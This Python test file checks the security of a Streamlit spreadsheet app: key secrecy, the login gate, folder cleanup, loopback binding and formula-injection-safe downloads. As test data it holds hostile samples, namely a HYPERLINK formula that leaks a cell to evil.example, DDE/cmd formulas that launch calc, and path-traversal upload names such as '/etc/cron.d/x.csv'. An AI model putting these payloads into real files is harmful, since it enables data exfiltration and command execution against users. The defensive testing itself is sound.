"""Attacks on the Streamlit app (issue #12, classes 6 and 7, stale uploads, multi-user).

Through Streamlit's AppTest with the real page: the server's key never reaches a browser nor a
server a browser names, the login gate holds everything back, every download neutralises
formula injection, dead sessions' folders are swept and live ones kept, uploads cannot leave
their session's folder, and `tablepilot app` binds to 127.0.0.1 with its protections on.
The model servers here are real HTTP servers on 127.0.0.1 that record what they were sent.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from app import guard, workdirs
from app.commands.app import AppCommandError, option_value, streamlit_args
from app.exports import NUMBER, csv_cell, file_download, formula_like, frame_csv
from app.state import (
    EXAMPLE_WORKBOOK,
    EXAMPLES,
    MODEL_ENV,
    AppState,
    ModelSettings,
    agent_options,
    save_upload,
)
from table_io.xlsx_safety import TRIGGERS

PAGE = str(Path(__file__).resolve().parents[2] / "app" / "streamlit_app.py")
KEY = "sk-server-SECRET-4f9c2a7e1b"
URL_PASSWORD = "url-pass-7c1d9e"
PASSWORD = "correct horse battery staple"
INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1",
              "\n=1+1", "\uff1dSUM(1)", "=DDE(\"cmd\";\"/C calc\";\"A\")", "\ufeff=1+1",
              "\u200b@SUM(1)"]


# ------------------------------------------------------------------ fixtures


class Recorder(BaseHTTPRequestHandler):
    """An OpenAI-compatible server that records every request's path and headers."""

    seen: list[tuple[str, dict[str, str]]]
    status = 200

    def log_message(self, *args: Any) -> None:
        pass

    def _reply(self, body: dict[str, Any]) -> None:
        self.seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
        data = json.dumps(body).encode()
        self.send_response(self.status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        if self.status != 200:  # a server that echoes the key it was sent in its error
            self._reply({"error": {"message": f"bad key {self.headers.get('Authorization')}"}})
        else:
            self._reply({"object": "list", "data": [{"id": "m"}]})

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        if self.status != 200:
            self._reply({"error": {"message": f"Incorrect API key: {self.headers.get('Authorization')}"}})
            return
        self._reply({"id": "c1", "object": "chat.completion", "created": 0, "model": "m",
                     "choices": [{"index": 0, "finish_reason": "stop",
                                  "message": {"role": "assistant", "content": "The answer is 1."}}],
                     "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})


def model_server(status: int = 200) -> tuple[ThreadingHTTPServer, list[tuple[str, dict[str, str]]]]:
    seen: list[tuple[str, dict[str, str]]] = []
    handler = type("Handler", (Recorder,), {"seen": seen, "status": status})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, seen


@pytest.fixture
def servers() -> Iterator[tuple[str, list[Any], str, list[Any]]]:
    """(the configured server's URL, its requests, another server's URL, its requests)."""
    ours, ours_seen = model_server()
    other, other_seen = model_server()
    yield (f"http://127.0.0.1:{ours.server_port}/v1", ours_seen,
           f"http://127.0.0.1:{other.server_port}/v1", other_seen)
    ours.shutdown()
    other.shutdown()


@pytest.fixture(autouse=True)
def private_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "sessions"
    monkeypatch.setenv(workdirs.ENV_ROOT, str(root))
    for name in (guard.ENV_BASE_URL, guard.ENV_MODEL, guard.ENV_API_KEY, guard.ENV_LOCK_MODEL,
                 guard.ENV_PASSWORD, MODEL_ENV):
        monkeypatch.delenv(name, raising=False)
    return root


def server_env(monkeypatch: pytest.MonkeyPatch, url: str, *, lock: bool = False) -> None:
    monkeypatch.setenv(guard.ENV_BASE_URL, url)
    monkeypatch.setenv(guard.ENV_MODEL, "m")
    monkeypatch.setenv(guard.ENV_API_KEY, KEY)
    if lock:
        monkeypatch.setenv(guard.ENV_LOCK_MODEL, "1")


@pytest.fixture
def scripted(monkeypatch: pytest.MonkeyPatch) -> None:
    """The bundled scripted model answers (no local model is started)."""
    monkeypatch.setenv(MODEL_ENV, f"scripted:{EXAMPLES / 'scripted_demo.json'}")


def start(**secrets: Any) -> AppTest:
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.secrets.update(secrets)
    at.run()
    assert not at.exception, at.exception
    return at


def everything_sent(at: AppTest) -> str:
    """Every element the browser would receive (protos: labels, values, defaults, help) and
    every value in the session state a script can see."""
    parts, stack = [], [at._tree]
    while stack:
        node = stack.pop()
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(str(proto))
        children = getattr(node, "children", None)
        if isinstance(children, dict):
            stack.extend(children.values())
    parts += [f"{name}={value!r}" for name, value in at.session_state.to_dict().items()]
    return "\n".join(parts)


# ------------------------------------------------------------------ class 6: the server's key


def test_the_servers_key_is_in_no_widget_text_or_state(
        servers: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    ours, _, _, _ = servers
    with_userinfo = ours.replace("http://", f"http://admin:{URL_PASSWORD}@")
    server_env(monkeypatch, with_userinfo)
    monkeypatch.setenv(guard.ENV_PASSWORD, PASSWORD)
    at = start()
    at.text_input(key="login-password").set_value(PASSWORD)
    at.button(key="FormSubmitter:login-form-Log in").click().run()
    at.button(key="example").click().run()
    assert not at.exception
    assert at.text_input(key="api_key").value == ""  # the key box is never prefilled
    assert at.text_input(key="base_url").value == ours  # the URL without its credentials
    shown = everything_sent(at)
    for secret in (KEY, URL_PASSWORD, PASSWORD):
        assert secret not in shown
    assert "Using the key configured on the server." in shown


def test_a_url_the_browser_types_never_gets_the_servers_key(
        servers: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    ours, ours_seen, other, other_seen = servers
    server_env(monkeypatch, ours)
    at = start()
    at.button(key="example").click().run()
    # the configured server gets the key, from this process
    assert any(h.get("authorization") == f"Bearer {KEY}" for _, h in ours_seen)
    at.text_input(key="base_url").set_value(other).run()
    assert not at.exception
    state: AppState = at.session_state["tablepilot"]
    options = agent_options(state.settings)
    assert options["base_url"] == other and options["api_key"] == guard.NO_KEY
    at.chat_input[0].set_value("How many regions?").run()  # the model call goes to `other`
    assert not at.exception
    posts = [h for path, h in other_seen if path.endswith("/chat/completions")]
    assert posts, other_seen
    sent = [h.get("authorization", "") for _, h in other_seen]
    assert all(KEY not in a for a in sent) and "Bearer EMPTY" in sent
    # a key the person types is theirs to send; the server's own still is not
    at.text_input(key="api_key").set_value("sk-mine").run()
    at.button(key="apply_model").click().run()
    assert agent_options(at.session_state["tablepilot"].settings)["api_key"] == "sk-mine"
    assert KEY not in everything_sent(at)


@pytest.mark.parametrize("typed", [
    "http://127.0.0.1:9/v1", " http://evil.example/v1 ", "{ours}/", "{ours},http://evil.example/v1",
    "{ours}?x=1", "http://127.0.0.1@evil.example/v1", "HTTP://EVIL.example/v1"])
def test_only_the_exact_configured_endpoint_gets_the_key(typed: str) -> None:
    ours = "http://127.0.0.1:8000/v1"
    server = guard.ServerModel(ours, "m", KEY)
    url = typed.format(ours=ours)
    assert server.key_for(url) == guard.NO_KEY
    options = agent_options(ModelSettings("server", url, "m"), server)
    assert options["api_key"] == guard.NO_KEY and KEY not in json.dumps(options)
    assert agent_options(ModelSettings("server", ours, "m"), server)["api_key"] == KEY


def test_a_locked_model_offers_no_choice_and_ignores_any(
        servers: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    ours, _, other, _ = servers
    server_env(monkeypatch, ours, lock=True)
    at = start()
    # no backend, URL or key to change; only how hard the agent works on a question
    assert [r.key for r in at.radio] == ["effort"] and not at.text_input
    assert any("Set by the server: m at " + ours in c.value for c in at.sidebar.caption)
    forged = ModelSettings("server", other, "m", "")
    options = agent_options(forged)
    assert options["base_url"] == ours and options["api_key"] == KEY


def test_error_messages_never_show_a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    echo, _ = model_server(status=401)  # echoes the Authorization header it got
    try:
        url = f"http://127.0.0.1:{echo.server_port}/v1"
        server_env(monkeypatch, url)
        at = start()
        at.button(key="example").click().run()
        at.chat_input[0].set_value("How many regions?").run()
        assert not at.exception
        shown = everything_sent(at)
        assert "Incorrect API key: Bearer [hidden]" in shown  # the server echoed it; not shown
        assert KEY not in shown
    finally:
        echo.shutdown()


def test_secrets_are_found_and_hidden_in_any_text() -> None:
    env = {guard.ENV_API_KEY: KEY, guard.ENV_PASSWORD: PASSWORD, "HF_TOKEN": "hf_abcdefgh",
           guard.ENV_BASE_URL: f"https://admin:{URL_PASSWORD}@llm.example/v1?key=q-secret-1&v=2"}
    text = f"failed: {KEY} / {PASSWORD} / hf_abcdefgh / {env[guard.ENV_BASE_URL]} / q-secret-1"
    shown = guard.redact(text, env)
    for secret in (KEY, PASSWORD, "hf_abcdefgh", URL_PASSWORD, "q-secret-1"):
        assert secret not in shown
    assert guard.public_url(env[guard.ENV_BASE_URL]) == "https://llm.example/v1"
    assert guard.ServerModel.from_env(env).display_url == "https://llm.example/v1"
    assert KEY not in repr(guard.ServerModel.from_env(env))


def test_tracebacks_show_the_type_only_and_tables_have_no_raw_export() -> None:
    from streamlit import config

    start()
    assert config.get_option("client.showErrorDetails") == "type"
    assert config.get_option("client.disableDataExport") is True


# ------------------------------------------------------------------ the login


def test_the_password_gate_holds_everything_back(
        monkeypatch: pytest.MonkeyPatch, private_root: Path) -> None:
    monkeypatch.setenv(guard.ENV_PASSWORD, PASSWORD)
    monkeypatch.setattr(guard, "LOGIN_LIMITER", guard.AttemptLimiter(per_client=3))
    at = start()
    assert not at.file_uploader and not at.chat_input and not at.sidebar.button
    assert "tablepilot" not in at.session_state  # not even a work folder yet
    assert not private_root.exists() or not any(private_root.iterdir())
    for wrong in ["", "correct horse", PASSWORD + " ", PASSWORD.upper()]:
        at.text_input(key="login-password").set_value(wrong)
        at.button(key="FormSubmitter:login-form-Log in").click().run()
        assert not at.file_uploader
    assert "Too many failed attempts" in at.error[0].value
    at.text_input(key="login-password").set_value(PASSWORD)  # right, but still rate-limited
    at.button(key="FormSubmitter:login-form-Log in").click().run()
    assert not at.file_uploader


def test_the_right_password_opens_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(guard.ENV_PASSWORD, PASSWORD)
    at = start()
    at.text_input(key="login-password").set_value(PASSWORD)
    at.button(key="FormSubmitter:login-form-Log in").click().run()
    assert at.file_uploader and not at.exception
    at.button(key="logout").click().run()
    assert not at.file_uploader


def test_the_limiter_counts_per_client_and_overall() -> None:
    now = [0.0]
    limiter = guard.AttemptLimiter(per_client=2, overall=3, window_s=60, clock=lambda: now[0])
    limiter.failed("a")
    limiter.failed("a")
    assert limiter.wait_s("a") == 60 and limiter.wait_s("b") == 0
    limiter.failed("b")
    assert limiter.wait_s("c") == 60  # the overall cap holds against many clients
    now[0] = 61
    assert limiter.wait_s("a") == 0 and limiter.wait_s("c") == 0
    assert guard.password_matches(PASSWORD, PASSWORD)
    assert not guard.password_matches("", "") and not guard.password_matches("x", PASSWORD)


def test_streamlits_own_login_gates_the_page_when_auth_is_configured() -> None:
    auth = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "s" * 32,
            "client_id": "id", "client_secret": "cs",
            "server_metadata_url": "https://idp.example/.well-known/openid-configuration"}
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.secrets["auth"] = auth
    at.user = {"is_logged_in": False}
    at.run()
    assert not at.exception and not at.file_uploader
    import importlib.util

    if importlib.util.find_spec("authlib") is None:  # an optional package: the page says so
        assert "needs Authlib" in at.error[0].value and not at.button
    else:
        assert at.button(key="login").label == "Log in"
    at.user = {"is_logged_in": True, "email": "ann@example.com"}
    at.run()
    assert at.file_uploader and at.button(key="logout")


# ------------------------------------------------------------------ class 7: downloads


def test_every_download_of_a_csv_upload_neutralises_formulas(
        scripted: None, downloads: dict[str, bytes]) -> None:
    rows = [["name", "amount"]] + [[text, str(-5 - i)] for i, text in enumerate(INJECTIONS)]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    at = start()
    at.file_uploader(key="upload").set_value(("evil.csv", buffer.getvalue().encode(), "text/csv")).run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    table_csv = next(v for k, v in downloads.items() if k.endswith(".csv") and "-v" not in k)
    version_csv = downloads["evil-v0.csv"]
    for data in (table_csv, version_csv):
        got = list(csv.reader(io.StringIO(data.decode(), newline="")))
        assert_safe(got)
        assert len(got) == len(rows)
        assert [row[1] for row in got[1:]] == [str(-5 - i) for i in range(len(INJECTIONS))]
    version_texts = [row[0] for row in csv.reader(io.StringIO(version_csv.decode(), newline=""))]
    assert version_texts[1:] == ["'" + t for t in INJECTIONS]  # the upload's bytes, neutralised


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not formula_like(field) or NUMBER.fullmatch(field.strip()), field


def test_a_model_written_formula_is_text_in_the_downloaded_workbook(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, downloads: dict[str, bytes]) -> None:
    turns = [{"tool": "sheet", "args": {"actions": [
        {"action": "write", "sheet": "Regions", "range": "A12", "values": [[t] for t in INJECTIONS[:5]]}]}},
        {"tool": "final_answer", "args": {"answer": "done"}}]
    (tmp_path / "script.json").write_text(json.dumps(turns))
    monkeypatch.setenv(MODEL_ENV, f"scripted:{tmp_path / 'script.json'}")
    at = start()
    at.button(key="example").click().run()
    at.chat_input[0].set_value("write these").run()
    at.button(key="apply").click().run()
    assert not at.exception and "Applied: now at version 1" in [i.value for i in at.info]
    sheet = openpyxl.load_workbook(io.BytesIO(downloads["sales_2025-v1.xlsx"]))["Regions"]
    cells = [sheet.cell(12 + i, 1) for i in range(5)]
    assert [c.value for c in cells] == INJECTIONS[:5]
    assert all(c.data_type == "s" for c in cells)  # text, not formulas
    assert sheet["C4"].data_type == "n"  # the workbook's own numbers stay numbers


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS),
                                    st.builds(lambda blank, t, s: blank + t + s,
                                              st.sampled_from(["", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b "]),
                                              st.sampled_from(TRIGGERS), st.text(max_size=8))),
                          st.one_of(st.integers(-10**6, 10**6), st.floats(-1e6, 1e6, allow_nan=False))),
                min_size=1, max_size=8))
def test_frame_csv_neutralises_any_text_and_keeps_numbers(rows: list[tuple[str, float]]) -> None:
    frame = pd.DataFrame(rows, columns=["=text", "number"])
    got = list(csv.reader(io.StringIO(frame_csv(frame).decode(), newline="")))
    assert got[0] == ["'=text", "number"]
    assert_safe(got)
    for (text, number), (out_text, out_number) in zip(rows, got[1:], strict=True):
        # only quote marks are added: before the text when it starts like a formula, and
        # inside it where a separator (a tab, a newline) starts another field in some program
        assert out_text.replace("'", "") == text.replace("'", "")
        assert out_text.startswith("'") or not formula_like(text)
        assert float(out_number) == float(number)  # numbers, negative ones too, stay numbers


@pytest.mark.parametrize(("name", "text"), [
    # Excel splits on the declared '|', not on the commas the sniffer would pick
    ("declared.csv", "sep=|\nann,1|=1+1|2\nbob|@SUM(1)|3\n"),
    # a ';' file whose fields hold commas: a comma-locale program splits them again
    ("semicolon.csv", "a;b;c\nx,=HYPERLINK(A1),y;2;3\nz;w,-cmd|' /C calc'!A0;1\n"),
    # a tab file whose fields hold ';' and '|'
    ("tabs.tsv", "a\tb\nx;=1+1\t2\ny|@A1\t3\n"),
])
def test_a_raw_csv_is_safe_whatever_delimiter_the_opening_program_guesses(
        tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    data = file_download(tmp_path / name).decode()
    assert not data.lower().startswith("sep=")
    for delimiter in (",", ";", "\t", "|"):  # however a program splits it, no field is live
        rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=delimiter))
        assert_safe(rows)


def test_look_alike_and_hidden_formula_starts_are_neutralised() -> None:
    for text in ("\x00=1+1", "\ufe66HYPERLINK(A1)", "\u2212cmd|' /C calc'!A0", "\x07@SUM(A1)",
                 "\ufe62A1", "\ufe63A1"):
        assert csv_cell(text) == "'" + text


def test_raw_csv_downloads_keep_numbers_and_other_formats_untouched(tmp_path: Path) -> None:
    (tmp_path / "a.tsv").write_text("x\ty\n-5\t=1+2\n+3\t@A1\n-\t1e-3\n")
    assert file_download(tmp_path / "a.tsv").decode().split("\r\n")[:-1] == [
        '"x"\t"y"', '"-5"\t"\'=1+2"', '"+3"\t"\'@A1"', '"\'-"\t"1e-3"']
    (tmp_path / "b.csv").write_text("a;b\n=1;-2,5\n")
    assert file_download(tmp_path / "b.csv").decode().split("\r\n")[:-1] == ['"a";"b"', '"\'=1";"-2,5"']
    (tmp_path / "c.xlsx").write_bytes(EXAMPLE_WORKBOOK.read_bytes())
    assert file_download(tmp_path / "c.xlsx") == EXAMPLE_WORKBOOK.read_bytes()
    assert csv_cell(-5) == "-5" and csv_cell(-0.5) == "-0.5" and csv_cell(None) == ""
    assert csv_cell(Shown("=cmd|' /C calc'!A0")) == "'=cmd|' /C calc'!A0"  # any object's text


class Shown:
    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


# ------------------------------------------------------------------ stale and private folders


def test_stale_session_folders_are_swept_and_live_ones_kept(private_root: Path) -> None:
    root = workdirs.work_root()
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    old = time.time() - 3 * 24 * 3600
    stale = Path(root / "session-deadbeef")
    (stale / "upload-1").mkdir(parents=True)
    (stale / "upload-1" / "sales.xlsx").write_bytes(b"x")
    (stale / "upload-1" / "sales.xlsx").chmod(0o444)
    (stale / workdirs.ALIVE).touch()
    os.utime(stale / workdirs.ALIVE, (old, old))
    fresh = root / "session-fresh"
    fresh.mkdir()
    (fresh / workdirs.ALIVE).touch()  # another process's session, used just now
    live = workdirs.new_session_folder(root)  # this process's, idle for days
    os.utime(live / workdirs.ALIVE, (old, old))
    other = root / "not-a-session"
    other.mkdir()
    os.utime(other, (old, old))
    removed = workdirs.sweep(root, ttl_s=24 * 3600)
    assert removed == [stale] and not stale.exists()
    assert fresh.exists() and live.exists() and other.exists()
    assert time.time() - (live / workdirs.ALIVE).stat().st_mtime < 60  # its heartbeat renewed
    workdirs.release(str(live))
    assert not live.exists()


def test_the_app_sweeps_on_start_and_its_sessions_stay_private(
        private_root: Path, scripted: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(workdirs.ENV_TTL, "3600")
    root = workdirs.work_root()
    stale = root / "session-killed"
    stale.mkdir()
    (stale / workdirs.ALIVE).touch()
    os.utime(stale / workdirs.ALIVE, (time.time() - 7200,) * 2)
    first, second = start(), start()
    for at in (first, second):
        at.file_uploader(key="upload").set_value(("sales.xlsx", EXAMPLE_WORKBOOK.read_bytes(),
                                                  "application/octet-stream")).run()
    assert not stale.exists()  # swept when the app started
    a, b = (at.session_state["tablepilot"] for at in (first, second))
    assert a.workdir.parent == b.workdir.parent == root and a.workdir != b.workdir
    assert stat.S_IMODE(a.workdir.stat().st_mode) == 0o700
    assert a.upload_path.is_relative_to(a.workdir) and len(a.workdir.name) > len("session-") + 6


@pytest.mark.parametrize("name", [
    "../../x.csv", "..\\..\\x.csv", "/etc/cron.d/x.csv", "a/../../b.csv", "\x00x.csv",
    "evil\n\r.csv", "\u202egpj.csv", ".csv.csv", "..csv", "x" * 5000 + ".csv", "  .csv",
    "%2e%2e%2fx.csv", "C:\\Windows\\x.csv", "con.csv"])
def test_an_upload_name_cannot_leave_its_folder(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "upload-1"
    path = save_upload(name, b"a,b\n1,2\n", folder)
    assert path.parent == folder and path.resolve().is_relative_to(folder.resolve())
    assert len(path.name) <= 120 and path.suffix == ".csv" and path.read_bytes() == b"a,b\n1,2\n"
    assert not any(ord(c) < 32 or c in "/\\" for c in path.name) and not path.name.startswith(".")


def test_an_upload_does_not_follow_a_planted_link(tmp_path: Path) -> None:
    target = tmp_path / "outside.csv"
    target.write_text("keep")
    folder = tmp_path / "upload-1"
    folder.mkdir()
    (folder / "x.csv").symlink_to(target)
    path = save_upload("x.csv", b"a\n1\n", folder)
    assert target.read_text() == "keep" and not path.is_symlink()


# ------------------------------------------------------------------ `tablepilot app`


def option(args: list[str], name: str) -> str:
    return args[args.index(f"--{name}") + 1]


def test_the_app_binds_to_loopback_with_its_protections_on(tmp_path: Path) -> None:
    args = streamlit_args([], env={}, cwd=tmp_path)
    assert option(args, "server.address") == "127.0.0.1"
    assert option(args, "server.enableXsrfProtection") == "true"
    assert option(args, "server.enableCORS") == "true"
    assert option(args, "server.maxUploadSize") == "200"
    assert option(args, "client.showErrorDetails") == "type"
    assert option(args, "client.disableDataExport") == "true"
    args = streamlit_args(["--port", "8765", "--server.headless", "true"], env={}, cwd=tmp_path)
    assert option(args, "server.port") == "8765" and "--port" not in args
    assert args[-2:] == ["--server.headless", "true"]  # the rest goes to streamlit untouched


@pytest.mark.parametrize("argv", [["--host", "0.0.0.0"], ["--server.address", "0.0.0.0"],
                                  ["--server.address=192.168.1.5"], ["--host", "::"]])
def test_sharing_on_the_network_needs_a_login(argv: list[str], tmp_path: Path) -> None:
    with pytest.raises(AppCommandError, match="no login is configured"):
        streamlit_args(argv, env={}, cwd=tmp_path)
    host = argv[-1].split("=")[-1]
    for env, extra in [({guard.ENV_PASSWORD: PASSWORD}, []), ({}, ["--no-login"])]:
        args = streamlit_args(argv + extra, env=env, cwd=tmp_path)
        assert option_value(args, "server.address") == host and "--no-login" not in args
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text('[auth]\nclient_id = "x"\n')
    assert option_value(streamlit_args(argv, env={}, cwd=tmp_path), "server.address") == host


@pytest.mark.parametrize("argv", [["--server.enableXsrfProtection", "false"],
                                  ["--server.enableCORS=false"], ["--server.enableCORS", "0"]])
def test_protections_cannot_be_turned_off(argv: list[str], tmp_path: Path) -> None:
    with pytest.raises(AppCommandError, match="stays on"):
        streamlit_args(argv, env={}, cwd=tmp_path)


def test_a_refused_command_line_exits_with_a_message() -> None:
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k != guard.ENV_PASSWORD}
    done = subprocess.run([sys.executable, "-m", "app.cli", "app", "--host", "0.0.0.0"],
                          capture_output=True, text=True, timeout=60, env=env,
                          cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 2 and "no login is configured" in done.stderr


def test_folders_of_earlier_versions_are_swept_when_stale(tmp_path: Path) -> None:
    old = time.time() - 3 * 24 * 3600
    stale, busy = tmp_path / "tablepilot-app-k2j4h5g6", tmp_path / "tablepilot-app-a1b2c3d4"
    root, other = tmp_path / "tablepilot-app-0", tmp_path / "someone-else-x"
    for folder in (stale, busy, root, other):
        (folder / "upload-1").mkdir(parents=True)
        (folder / "upload-1" / "f.csv").write_text("a")
        for path in (folder / "upload-1" / "f.csv", folder / "upload-1", folder):
            os.utime(path, (old, old))
    (busy / "upload-1" / "f.csv").write_text("written just now")
    assert workdirs.sweep_legacy(tmp_path, ttl_s=24 * 3600) == [stale]
    assert busy.exists() and root.exists() and other.exists()


def test_a_shared_app_locks_the_model_unless_the_server_says_otherwise() -> None:
    from app.commands.app import shared_env

    assert shared_env([], env={}) == {}
    assert shared_env(["--host", "0.0.0.0"], env={}) == {guard.ENV_LOCK_MODEL: "1"}
    assert shared_env(["--host", "0.0.0.0"], env={guard.ENV_LOCK_MODEL: "0"}) == {}


# ------------------------------------------------------------------ the real browser

CHROMIUM = "/usr/bin/chromium"


def local_address() -> str | None:
    """A non-loopback address of this machine, if it has one."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("10.255.255.255", 1))  # no packet is sent
            address = str(s.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


@pytest.mark.browser
@pytest.mark.slow
def test_in_chromium_the_login_comes_first_and_no_frame_carries_the_key(
        servers: Any, tmp_path: Path) -> None:
    import signal
    import socket
    import subprocess
    import sys

    import httpx

    if not Path(CHROMIUM).exists():
        pytest.skip("chromium is not installed (apt-get install -y chromium)")
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=20_000)  # reading a workbook takes seconds on a busy 2-core box

    ours = servers[0]
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = int(s.getsockname()[1])
    env = {**os.environ, guard.ENV_PASSWORD: PASSWORD, guard.ENV_BASE_URL: ours,
           guard.ENV_MODEL: "m", guard.ENV_API_KEY: KEY, workdirs.ENV_ROOT: str(tmp_path / "w")}
    env.pop("STREAMLIT_SERVER_ADDRESS", None)
    log = (tmp_path / "server.log").open("w")
    proc = subprocess.Popen(  # no --host: it must listen on 127.0.0.1 only
        [sys.executable, "-m", "app.cli", "app", "--port", str(port), "--server.headless", "true",
         "--server.fileWatcherType", "none"], cwd=Path(PAGE).parents[1], env=env,
        stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    frames: list[str] = []
    try:
        deadline = time.monotonic() + 40
        while True:
            assert proc.poll() is None, (tmp_path / "server.log").read_text()[-2000:]
            try:
                if httpx.get(f"{url}/_stcore/health", timeout=1).text == "ok":
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, "the app did not answer within 40 s"
            time.sleep(0.3)
        address = local_address()
        if address:
            with pytest.raises(httpx.HTTPError):
                httpx.get(f"http://{address}:{port}/_stcore/health", timeout=2)
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            try:
                page = browser.new_page()
                page.set_default_timeout(20_000)
                page.on("websocket", lambda ws: ws.on(
                    "framereceived", lambda data: frames.append(
                        data.decode("latin-1") if isinstance(data, bytes) else data)))
                page.goto(url)
                box = page.get_by_label("Password", exact=True)
                box.wait_for()
                expect(page.locator('input[type="file"]')).to_have_count(0)
                box.fill("not it")
                page.get_by_role("button", name="Log in").click()
                expect(page.get_by_text("Wrong password.")).to_be_visible()
                box.fill(PASSWORD)
                page.get_by_role("button", name="Log in").click()
                expect(page.get_by_text("Upload a workbook").first).to_be_visible()
                expect(page.get_by_role("textbox", name="Server URL")).to_have_value(ours)
                expect(page.get_by_role("textbox", name="API key (optional)")).to_have_value("")
                page.wait_for_timeout(1500)
                html = page.content()
            finally:
                browser.close()
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        log.close()
    assert frames and "Server URL" in "".join(frames)
    for secret in (KEY, PASSWORD):
        assert secret not in html and all(secret not in f for f in frames)


def test_tablepilot_serve_keeps_its_key_off_the_command_line() -> None:
    import argparse

    from app.commands import serve

    parser = argparse.ArgumentParser()
    serve.register(parser.add_subparsers())
    args = parser.parse_args(["serve", "Qwen/Qwen2.5-7B-Instruct", "--api-key", KEY])
    assert KEY not in " ".join(serve.build_command(args))
    assert (serve.child_env(args) or {})["VLLM_API_KEY"] == KEY
